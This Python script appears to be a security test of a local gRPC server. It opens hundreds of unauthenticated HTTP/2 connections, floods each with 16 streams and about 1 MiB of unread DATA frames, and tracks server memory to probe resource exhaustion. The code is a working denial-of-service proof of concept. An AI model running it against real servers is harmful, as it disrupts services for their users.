# tokenless gRPC: each connection opens 16 streams and sends 1 MiB of DATA (the server's connection window), never reads
import sys; import os; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from h import *; from h2raw import *
s = Svc('/tmp/h40/d17')
NC = int(sys.argv[1]) if len(sys.argv) > 1 else 300
conns = []; t0 = time.time()
print("start", s.rss(), flush=True)
for i in range(NC):
    try:
        c = Conn(s.gport, init=((4, 0),)); c.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        c.send(b"".join(frame(HEADERS, 4, 1 + 2 * j, grpc_headers()) for j in range(16)))
        c.send(b"".join(frame(DATA, 0, 1 + 2 * (k % 16), b"\x00" * 16384) for k in range(63)))
        conns.append(c)
    except Exception as e: print("conn", i, e); break
time.sleep(2)
print(f"{len(conns)} tokenless conns, ~1 MiB DATA each, in {time.time()-t0:.1f}s", s.rss(), s.probe(), flush=True)
time.sleep(5); print("after 5 s", s.rss(), flush=True)
# second round on the same connections: more DATA (the server may have released window)
n2 = 0
for c in conns:
    try: c.s.settimeout(0.2); c.send(b"".join(frame(DATA, 0, 1 + 2 * (k % 16), b"\x00" * 16384) for k in range(63))); n2 += 1
    except Exception: pass
time.sleep(2); print("second MiB accepted on", n2, "conns", s.rss(), flush=True)
for c in conns: c.close()
time.sleep(2); print("after close", s.rss())
print("exit", s.term())
